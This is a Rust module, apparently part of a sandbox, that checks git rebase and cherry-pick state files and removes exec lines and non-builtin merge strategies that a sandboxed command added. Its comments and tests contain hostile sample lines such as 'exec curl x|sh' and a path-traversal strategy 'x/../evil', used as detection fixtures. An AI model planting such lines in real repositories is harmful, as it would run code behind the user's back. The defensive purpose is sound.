//! The state files of a git operation in progress (a rebase, a cherry-pick or revert) that make
//! git run a program when the person continues it — written by git itself, so they cannot be
//! kept read-only, and checked after each sandboxed command instead (`surfaces/`).
//!
//! Tried with git 2.47: an `exec` line added to `rebase-merge/git-rebase-todo` runs at the next
//! `git rebase --continue`; a merge strategy that is not one of git's own, in
//! `rebase-merge/strategy` or as `strategy` in `sequencer/opts`, runs `git merge-NAME` (a name
//! with a `/` is a path: `x/../evil` runs `./evil`). A line of these that the command added is
//! taken out again; the rest of the operation's state stays as the command left it.

/// How a state file names a program.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Runs {
    /// A to-do list: `exec COMMAND` (or `x COMMAND`) lines.
    ExecLines,
    /// One line, the merge strategy.
    Strategy,
    /// A configuration file with `strategy = NAME` in its `[options]` section.
    StrategyOption,
}

/// Each state file (relative to a git directory) and how it names programs.
pub(super) const FILES: &[(&str, Runs)] = &[
    ("rebase-merge/git-rebase-todo", Runs::ExecLines),
    ("rebase-merge/strategy", Runs::Strategy),
    ("sequencer/opts", Runs::StrategyOption),
];

/// The directories those files are in: one that became a link or something else than a
/// directory is moved out of git's sight (git would follow it to files it cannot be checked in).
pub(super) const DIRS: &[&str] = &["rebase-merge", "sequencer"];

/// The command that makes git read a state file read as `runs`.
pub(super) fn continued_by(runs: Runs) -> &'static str {
    match runs {
        Runs::ExecLines | Runs::Strategy => "`git rebase --continue`",
        Runs::StrategyOption => "`git cherry-pick --continue` or `git revert --continue`",
    }
}

/// The merge strategies git carries itself (`git merge -s`).
const GIT_STRATEGIES: &[&str] = &["ort", "recursive", "resolve", "octopus", "ours", "subtree"];

/// Whether `line` of a file read as `runs` makes git run a program of its own choosing.
fn names_a_program(runs: Runs, line: &str) -> bool {
    let line = line.trim_matches([' ', '\t', '\r', '\n']);
    match runs {
        Runs::ExecLines => {
            let word = line.split([' ', '\t']).next().unwrap_or_default();
            word == "exec" || word == "x"
        }
        Runs::Strategy => !line.is_empty() && !GIT_STRATEGIES.contains(&line),
        Runs::StrategyOption => {
            // `[options] strategy = x` on the section's line, or `strategy = x` below it.
            let setting = line
                .strip_prefix('[')
                .and_then(|rest| rest.split_once(']'))
                .map_or(line, |(_, after)| after.trim());
            let Some((key, value)) = setting.split_once('=') else {
                return false;
            };
            let value = value.trim();
            let value = value
                .strip_prefix('"')
                .and_then(|v| v.strip_suffix('"'))
                .unwrap_or(value);
            key.trim().eq_ignore_ascii_case("strategy") && !GIT_STRATEGIES.contains(&value)
        }
    }
}

/// The lines of `after` that name a program and were not in `before`: `None` when there are
/// none, else the file without them and the lines taken out.
pub(super) fn added_programs(
    runs: Runs,
    before: Option<&[u8]>,
    after: &[u8],
) -> Option<(Vec<u8>, Vec<String>)> {
    let lines = |bytes: &[u8]| -> Vec<String> {
        String::from_utf8_lossy(bytes)
            .split_inclusive('\n')
            .map(str::to_owned)
            .collect()
    };
    // Counted: a line that was there once and is there twice now runs once more.
    let mut known: Vec<String> = before
        .map(lines)
        .unwrap_or_default()
        .into_iter()
        .filter(|line| names_a_program(runs, line))
        .collect();
    let mut kept = Vec::new();
    let mut dropped = Vec::new();
    for line in lines(after) {
        if !names_a_program(runs, &line) {
            kept.extend_from_slice(line.as_bytes());
        } else if let Some(at) = known.iter().position(|old| *old == line) {
            known.swap_remove(at);
            kept.extend_from_slice(line.as_bytes());
        } else {
            dropped.push(line.trim_end().to_owned());
        }
    }
    (!dropped.is_empty()).then_some((kept, dropped))
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn added_exec_lines_are_taken_out_and_the_rest_kept() {
        let before = b"pick 1 one\nexec make test\npick 2 two\n";
        let after = b"pick 1 one\nexec make test\n  x touch pwned\nexec\tcurl x|sh\npick 2 two\n# exec in a comment\n";
        let (kept, dropped) = added_programs(Runs::ExecLines, Some(before), after).unwrap();
        assert_eq!(
            String::from_utf8(kept).unwrap(),
            "pick 1 one\nexec make test\npick 2 two\n# exec in a comment\n"
        );
        assert_eq!(dropped, ["  x touch pwned", "exec\tcurl x|sh"]);
        assert_eq!(added_programs(Runs::ExecLines, Some(before), before), None);
        let twice = b"pick 1 one\nexec make test\nexec make test\npick 2 two\n";
        let (kept, dropped) = added_programs(Runs::ExecLines, Some(before), twice).unwrap();
        assert_eq!(
            (kept.as_slice(), dropped),
            (&before[..], vec!["exec make test".to_owned()])
        );
        // `execute`, `fixup -x`: not the command.
        assert_eq!(
            added_programs(Runs::ExecLines, None, b"pick 3 execute\nfixup -C 4 x\n"),
            None
        );
    }

    #[test]
    fn only_gits_own_strategies_pass() {
        for name in GIT_STRATEGIES {
            assert_eq!(
                added_programs(Runs::Strategy, None, format!("{name}\n").as_bytes()),
                None
            );
        }
        let (kept, dropped) =
            added_programs(Runs::Strategy, Some(b"ort\n"), b"x/../evil\n").unwrap();
        assert_eq!((kept, dropped), (Vec::new(), vec!["x/../evil".to_owned()]));
        let opts = b"[options]\n\tstrategy = x/../evil\n\tSTRATEGY=\"ort\"\n\tgpg-sign = k\n[options] strategy = y\n";
        let (kept, dropped) = added_programs(Runs::StrategyOption, None, opts).unwrap();
        assert_eq!(
            String::from_utf8(kept).unwrap(),
            "[options]\n\tSTRATEGY=\"ort\"\n\tgpg-sign = k\n"
        );
        assert_eq!(
            dropped,
            ["\tstrategy = x/../evil", "[options] strategy = y"]
        );
    }
}
